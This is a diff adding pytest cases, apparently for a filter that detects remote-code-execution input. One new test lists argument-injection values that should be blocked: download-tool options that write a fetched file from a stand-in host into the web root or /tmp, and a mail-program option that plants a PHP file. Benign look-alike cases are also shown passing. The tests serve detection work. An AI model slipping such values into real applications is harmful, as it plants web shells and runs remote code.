@@ -914,3 +914,19 @@ def test_a_delay_piped_after_a_word_refused(rce_edge, value):
 @pytest.mark.parametrize("value", ["yes|no 10", "red|green 5", "Tom|Jerry 2", "small|large"])
 def test_choices_between_words_pass(edge, value):
     assert_passes_in_note_and_query(edge, value)
+
+
+@pytest.mark.parametrize("value", ["-o /var/www/html/s.php http://x.example/s.txt",
+                                   "--output /tmp/x.sh https://x.example/a",
+                                   "-X/var/www/html/log.php a@b.example"])
+def test_an_option_before_the_address_is_an_argument_list(rce_edge, value):
+    """The option first, the address after it to the value's end: the
+    program the application hands the value to takes both."""
+    assert_blocked_by_rce(rce_edge, value)
+
+
+@pytest.mark.parametrize("value", ["- item one http://example.com",
+                                   "-o output.txt https://example.com/a.zip", "--help",
+                                   "-5 degrees at https://weather.example"])
+def test_list_items_and_options_without_a_path_pass(edge, value):
+    assert_passes_in_note_and_query(edge, value)
